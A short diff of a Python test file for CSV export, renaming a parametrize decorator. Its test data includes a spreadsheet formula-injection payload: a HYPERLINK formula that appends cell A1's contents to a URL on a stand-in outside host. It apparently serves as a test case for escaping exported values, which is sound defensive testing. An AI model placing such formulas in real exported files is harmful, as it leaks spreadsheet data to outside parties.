@@ -47,7 +47,7 @@ def rows(*items: Any, **options: Any) -> list[dict[str, str]]:
     return list(csv.DictReader(io.StringIO(file.getvalue().decode())))
 
 
-@pytest.mark.parametrize(
+@each_case(
     "title",
     [
         '=HYPERLINK("http://a.example/?x="&A1,"点这里")',
